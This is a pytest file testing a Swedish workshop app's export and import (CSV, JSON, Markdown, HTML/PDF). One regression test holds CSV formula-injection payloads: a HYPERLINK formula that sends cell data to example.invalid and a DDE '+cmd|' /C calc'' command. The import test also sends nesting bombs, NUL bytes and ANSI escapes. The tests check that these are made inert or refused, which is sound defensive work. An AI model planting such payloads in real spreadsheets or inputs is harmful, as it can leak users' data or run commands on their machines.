"""Export and import against a real server, on SQLite and PostgreSQL: what the group keeps."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import httpx
import pytest
from pypdf import PdfReader
from sqlalchemy import text

from app.client import RoomClient
from app.db import make_engine
from app.templates import builtin_templates
from tests.conftest import MakeClient, NewRoom
from tests.servers import IN_CI, ServerProcess

SWEDISH_LEFT_POLES = [
    "Vi erbjuder en produkt",
    "Vi ser användaren som objekt",
    "Vi har fokus på produktion",
    "Vi gör saker rätt",
    "Vi har en linjär logik i vår verksamhet",
    "Vi har stort expertfokus",
    "Vi utvecklar vår verksamhet inom enheter (silos)",
    "Vi vill inte misslyckas",
    "Vi vill helst reducera variation",
    "Våra rutiner beslutas högt i hierarkin",
]


async def workshop(new_room: NewRoom, clients: MakeClient) -> tuple[dict[str, Any], list[RoomClient]]:
    """A small, finished workshop: names for some, groups, scores, notes in order, votes."""
    room = await new_room(title="Äldreomsorgen Åmål")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    people = [clients(room["room_id"]) for _ in range(4)]
    for index, person in enumerate(people):
        await person.connect(name="Åsa" if index == 0 else None)
    await facilitator.command(
        "set_groups", groups=[{"id": "chefer", "name": "Chefer"}, {"id": "staff", "name": "Medarbetare"}]
    )
    await people[1].command("set_profile", group="staff")
    for index, person in enumerate(people):
        for number in range(1, 11):
            await person.command("set_score", statement_id=f"s{number}", value=(index * 3 + number) % 10 + 1)
    await people[3].command("set_score", statement_id="s4", value=None)
    await people[2].command("set_score", statement_id="s4", value="unknown")
    await people[0].command("add_note", area_id="thoughts", text="Värdet uppstår hos brukaren")
    await people[1].command("add_note", area_id="now", text="Bjud in brukare; till | planeringen *nu*")
    await people[2].command("add_note", area_id="now", text="Prova ett nytt mötesformat")
    await facilitator.command("add_note", area_id="needed", text="Tid för reflektion")
    first = next(n for n in people[2].notes.values() if n["text"] == "Prova ett nytt mötesformat")
    await people[2].command("move_note", note_id=first["id"], area_id="now", index=0)
    tid = next(n for n in people[0].notes.values() if n["area_id"] == "thoughts")
    for person in people[:3]:
        await person.command("vote_note", note_id=tid["id"], voted=True)
    await facilitator.command("set_phase", phase="document")
    ack = await facilitator.command("set_results_visible", visible=True)
    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= ack["seq"])
    return room, people


async def export(http: httpx.AsyncClient, room: dict[str, Any], fmt: str) -> httpx.Response:
    response = await http.get(
        f"/api/rooms/{room['room_id']}/export",
        params={"format": fmt},
        headers={"Authorization": f"Bearer {room['facilitator_token']}"},
    )
    assert response.status_code == 200, response.text
    return response


def normalised(document: dict[str, Any]) -> dict[str, Any]:
    """An export with ids, tokens and times replaced by their order of appearance."""
    names: dict[str, str] = {"facilitator": "facilitator"}
    for index, person in enumerate(document["participants"]):
        names[person["id"]] = f"person-{index}"
    result: dict[str, Any] = json.loads(json.dumps(document))
    result.pop("exported_at")
    # Who belongs to a group too small to show is never exported, so it cannot come back.
    result.pop("hidden_groups")
    result["room"].pop("created_at")
    for person in result["participants"]:
        person["id"] = names[person["id"]]
    for score in result["scores"]:
        score["participant_id"] = names[score["participant_id"]]
    result["scores"].sort(key=lambda s: (s["round"], s["statement_id"], s["participant_id"]))
    for index, note in enumerate(result["notes"]):
        note["id"] = f"note-{index}"
        note["author_id"] = names[note["author_id"]]
        note["voter_ids"] = sorted(names[v] for v in note["voter_ids"])
        note.pop("created_at")
        note.pop("updated_at")
    return result


async def test_exports_are_for_the_facilitator_only(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room()
    alice = clients(room["room_id"])
    await alice.connect()
    url = f"/api/rooms/{room['room_id']}/export"
    assert (await http.get(url)).json()["code"] == "unauthorized"
    refused = await http.get(url, headers={"Authorization": f"Bearer {alice.token}"})
    assert refused.status_code == 403 and refused.json()["code"] == "forbidden"
    bad_format = await http.get(
        url, params={"format": "pdf"}, headers={"Authorization": f"Bearer {room['facilitator_token']}"}
    )
    assert bad_format.status_code == 422


async def test_json_export_round_trips_through_import(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    first = (await export(http, room, "json")).json()
    assert first["schema_version"] == 1
    assert [p["name"] for p in first["participants"]] == ["Åsa", None, None, None]
    # One voter in "staff" is fewer than k = 3: the group is never shown, not even as a label.
    assert first["participants"][1]["group"] is None and first["hidden_groups"] == 1
    assert first["group_figures"] == []
    assert len(first["scores"]) == 39 and first["voters"] == 4
    assert [n["text"] for n in first["notes"] if n["area_id"] == "now"] == [
        "Prova ett nytt mötesformat",
        "Bjud in brukare; till | planeringen *nu*",
    ]
    assert next(n for n in first["notes"] if n["area_id"] == "thoughts")["votes"] == 3

    imported = await http.post("/api/rooms/import", content=json.dumps(first))
    assert imported.status_code == 201, imported.text
    copy = imported.json()
    assert copy["room_id"] != room["room_id"] and copy["facilitator_token"] != room["facilitator_token"]
    second = (await export(http, copy, "json")).json()
    assert normalised(second) == normalised(first)


async def test_csv_opens_in_a_spreadsheet(http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient) -> None:
    room, _people = await workshop(new_room, clients)
    response = await export(http, room, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    disposition = response.headers["content-disposition"]
    assert 'filename="aldreomsorgen-amal-' in disposition and disposition.endswith('.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, statements = rows[0], rows[1:11]
    assert header[:7] == ["#", "Vänster pol (1)", "Höger pol (10)", "Svar", "Medel", "Median", "Standardavvikelse"]
    assert header[17:] == ["Vet ej", "Omgång", "Avser", "Oenighet"] and {(row[18], row[19]) for row in statements} == {
        ("1", "Idag")
    }
    assert [row[1] for row in statements] == SWEDISH_LEFT_POLES
    json_export = (await export(http, room, "json")).json()
    for row, figures in zip(statements, json_export["aggregates"], strict=True):
        assert int(row[3]) == figures["n"]
        assert float(row[4].replace(",", ".")) == pytest.approx(figures["mean"], abs=0.005)
        assert [int(c) for c in row[7:17]] == figures["histogram"]
        assert int(row[17]) == figures["unknown"]
    assert sum(int(row[17]) for row in statements) == 1, "one don't-know answer, counted apart"
    raw = [row for row in rows[rows.index(["Alla graderingar, anonymiserade"]) + 2 :] if row[0].startswith("P")]
    assert rows[-1][0].startswith("1 grupper med färre än 3 svarande"), "the hidden group is noted, not shown"
    assert len(raw) == 39 and {row[0] for row in raw} == {"P1", "P2", "P3", "P4"}
    assert "Åsa" not in response.content.decode("utf-8-sig"), "the raw scores are anonymised"
    assert sum(row[4] == "Vet ej" for row in raw) == 1


FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Klicka")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]


async def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Issue 17: poles and group names went into the CSV raw, so a spreadsheet ran them as
    formulas. Each cell that begins with = + - @ (or tab or CR) now begins with a quote."""
    template = builtin_templates()["tjanstelogik"].model_dump(mode="json")
    template["statements"][0]["left"] = {"sv": FORMULAS[0]}
    template["statements"][0]["right"] = {"sv": FORMULAS[1]}
    template["statements"][1]["left"] = {"sv": FORMULAS[2]}
    template["statements"][1]["right"] = {"sv": FORMULAS[3]}
    room = await new_room(title="Formler", template=template)
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command("update_room", group_min_size=2)
    await facilitator.command("set_groups", groups=[{"id": "g", "name": "=1+1"}, {"id": "h", "name": "@A1"}])
    for group in ("g", "g", "h", "h"):
        person = clients(room["room_id"])
        await person.connect()
        await person.command("set_profile", group=group)
        await person.command("set_score", statement_id="s1", value=3)
        await person.command("set_score", statement_id="s2", value="unknown")
    ack = await facilitator.command("set_results_visible", visible=True)
    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= ack["seq"])
    rows = list(csv.reader(io.StringIO((await export(http, room, "csv")).content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"} and not NUMBER.fullmatch(c)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    for formula in (*FORMULAS, "=1+1", "@A1"):
        assert "'" + formula in cells, f"{formula!r} is kept, behind a quote"
    assert [row[0] for row in rows if row[:1] and row[0] in {"'=1+1", "'@A1"}], "the group rows are there"


NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


async def test_markdown_tells_the_story(http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient) -> None:
    room, _people = await workshop(new_room, clients)
    markdown = (await export(http, room, "md")).text
    assert markdown.startswith("# Äldreomsorgen Åmål")
    assert "4 deltagare, varav 4 graderade" in markdown
    assert markdown.count("\n| ") >= 11  # header + ten statements
    assert "Vilka resursstrukturer finns i vår verksamhet?" in markdown
    assert "## Nästa steg" in markdown and "### Vad gör vi nu? – Aktiviteter vi vill få igång" in markdown
    assert "- [ ] Prova ett nytt mötesformat" in markdown
    assert r"Bjud in brukare; till \| planeringen \*nu\*" in markdown, "user text is escaped"
    assert "Värdet uppstår hos brukaren — Åsa (3 röster)" in markdown
    assert any(label in markdown for label in ("· Spridda åsikter", "· Samstämmiga", "· Två läger"))


@pytest.fixture(scope="module")
def chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        if IN_CI:
            pytest.fail("CI=true but chromium is not installed (.ci/run installs it)")
        pytest.skip("chromium is not installed")
    return path


async def test_html_report_is_self_contained_and_prints(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient, chromium: str, tmp_path: Path
) -> None:
    room, _people = await workshop(new_room, clients)
    report = (await export(http, room, "html")).text
    assert report.startswith("<!doctype html>") and '<html lang="sv">' in report
    for external in ("http://", "https://", "src=", "@import", "url("):
        assert external not in report.replace('xmlns="http://www.w3.org/2000/svg"', ""), external
    assert report.count("<svg") == 11  # ten distributions and the profile
    assert "@page { size: A4" in report
    source = tmp_path / "report.html"
    source.write_text(report, encoding="utf-8")
    pdf = tmp_path / "report.pdf"
    command = [
        chromium,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--no-pdf-header-footer",
        f"--print-to-pdf={pdf}",
        source.as_uri(),
    ]
    await asyncio.to_thread(subprocess.run, command, check=True, capture_output=True, timeout=90, env={**os.environ})
    text_in_pdf = " ".join(page.extract_text() for page in PdfReader(pdf).pages)
    flat = " ".join(text_in_pdf.split())
    assert "Äldreomsorgen Åmål" in flat
    for pole in SWEDISH_LEFT_POLES:
        assert pole in flat, pole


async def test_an_export_is_one_consistent_snapshot_while_people_write(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room()
    writers = [clients(room["room_id"]) for _ in range(3)]
    for writer in writers:
        await writer.connect()
    acked: dict[str, int] = {}
    stop = asyncio.Event()

    async def keep_writing(writer: RoomClient, number: int) -> None:
        count = 0
        while not stop.is_set() and count < 60:
            text_ = f"Lapp {number}-{count}"
            reply = await writer.command("add_note", area_id="insights", text=text_)
            acked[text_] = reply["seq"]
            count += 1

    tasks = [asyncio.create_task(keep_writing(w, i)) for i, w in enumerate(writers)]
    exports = []
    for _ in range(6):
        exports.append((await export(http, room, "json")).json())
    stop.set()
    await asyncio.gather(*tasks)
    for document in exports:
        seq = document["room"]["seq"]
        texts = {n["text"] for n in document["notes"]}
        # Exactly the notes acknowledged at or before the snapshot's seq, nothing half-done.
        assert texts == {t for t, s in acked.items() if s <= seq}


async def test_bad_imports_are_refused_and_leave_nothing(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    good = (await export(http, room, "json")).json()
    engine = make_engine(server.env["SAMSKAPA_DATABASE_URL"])

    def rooms_stored() -> int:
        with engine.connect() as connection:
            return int(connection.execute(text("SELECT count(*) FROM room")).scalar_one())

    before = rooms_stored()
    try:
        cases: list[tuple[bytes, int, str, str]] = [
            (b"{not json", 422, "invalid_json", "not JSON"),
            (json.dumps({**good, "schema_version": 99}).encode(), 422, "unsupported_schema_version", "99"),
            (
                json.dumps({k: v for k, v in good.items() if k != "template"}).encode(),
                422,
                "invalid_export",
                "template",
            ),
            (
                json.dumps({**good, "scores": [{**good["scores"][0], "value": 11}]}).encode(),
                422,
                "invalid_export",
                "scores.0.value",
            ),
            (
                json.dumps({**good, "notes": [{**good["notes"][0], "area_id": "nowhere"}]}).encode(),
                422,
                "invalid_export",
                "notes.0",
            ),
            (b" " * (50 * 1024 * 1024), 413, "too_large", "MB"),
            # A nesting bomb was a 500 (issue 17); a NUL was stored on SQLite, a 500 on PostgreSQL.
            (b"[" * 2048, 422, "invalid_json", "not JSON"),
            (b'{"schema_version": 1, "room": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 422, "invalid_json", "JSON"),
            (
                json.dumps({**good, "participants": [{**good["participants"][0], "name": "Å\u0000sa"}]}).encode(),
                422,
                "invalid_export",
                "participants.0.name",
            ),
            (
                json.dumps({**good, "notes": [{**good["notes"][0], "text": "Lapp\u001b[31m"}]}).encode(),
                422,
                "invalid_export",
                "notes.0.text",
            ),
            (
                json.dumps({**good, "room": {**good["room"], "title": "\u0000"}}).encode(),
                422,
                "invalid_export",
                "room.title",
            ),
        ]
        for body, status, code, named in cases:
            response = await http.post("/api/rooms/import", content=body, timeout=60)
            assert response.status_code == status, (code, response.text[:200])
            assert response.json()["code"] == code
            assert named in response.json()["message"], response.json()["message"]
        assert rooms_stored() == before, "nothing half-imported remains"
    finally:
        engine.dispose()


async def test_export_schema_is_served(http: httpx.AsyncClient) -> None:
    schema = (await http.get("/api/schema/export.json")).json()
    assert schema["title"] == "BoardExport"
    assert {"schema_version", "room", "template", "participants", "scores", "aggregates", "notes"} <= set(
        schema["required"]
    )


async def test_every_round_is_in_every_export(http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient) -> None:
    room = await new_room(title="Två omgångar")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    alice, bob = clients(room["room_id"]), clients(room["room_id"])
    await alice.connect()
    await bob.connect()
    await alice.command("set_score", statement_id="s1", value=2)
    await bob.command("set_score", statement_id="s1", value=4)
    await facilitator.command("start_round")
    await alice.command("set_score", statement_id="s1", value=6)
    ack = await bob.command("set_score", statement_id="s1", value=8)
    await facilitator.wait_until(lambda: (facilitator.spectrum or {}).get("seq", 0) >= ack["seq"])
    document = (await export(http, room, "json")).json()
    assert document["room"]["round"] == 2
    assert sorted((s["round"], s["value"]) for s in document["scores"]) == [(1, 2), (1, 4), (2, 6), (2, 8)]
    s1 = {a["round"]: a["mean"] for a in document["aggregates"] if a["statement_id"] == "s1"}
    assert s1 == {1: 3.0, 2: 7.0}
    rows = list(csv.reader(io.StringIO((await export(http, room, "csv")).content.decode("utf-8-sig")), delimiter=";"))
    assert [(row[0], row[4], row[18]) for row in rows[1:21] if row[0] == "1"] == [
        ("1", "3,00", "1"),
        ("1", "7,00", "2"),
    ]
    markdown = (await export(http, room, "md")).text
    assert "### Omgångar: medelvärden" in markdown and "| 1 | Vi erbjuder en produkt | 3,0 | 7,0 |" in markdown
    assert "Omgång 2" in (await export(http, room, "html")).text
    copy = (await http.post("/api/rooms/import", content=json.dumps(document))).json()
    again = (await export(http, copy, "json")).json()
    assert normalised(again) == normalised(document)


async def test_desired_values_and_their_gap_are_exported(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room(title="Önskat läge")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command("update_room", desired_enabled=True)
    alice = clients(room["room_id"])
    await alice.connect()
    await alice.command("set_score", statement_id="s3", value=2)
    await alice.command("add_note", area_id="now", text="Börja med brukarråd", statement_id="s3")
    ack = await alice.command("set_score", statement_id="s3", value=9, kind="desired")
    await facilitator.wait_until(lambda: (facilitator.spectrum or {}).get("seq", 0) >= ack["seq"])
    document = (await export(http, room, "json")).json()
    assert document["room"]["desired_enabled"] is True
    assert {(s["kind"], s["value"]) for s in document["scores"]} == {("today", 2), ("desired", 9)}
    markdown = (await export(http, room, "md")).text
    assert "### Idag och önskat" in markdown and "| 3 | Vi har fokus på produktion | 2,0 | 9,0 | 7,0 |" in markdown
    assert "- [ ] Börja med brukarråd (↔ om påstående 3)" in markdown
    report = (await export(http, room, "html")).text
    assert "Gap (önskat − idag)" in report and "↔ om påstående 3" in report
    copy = (await http.post("/api/rooms/import", content=json.dumps(document))).json()
    assert normalised((await export(http, copy, "json")).json()) == normalised(document)
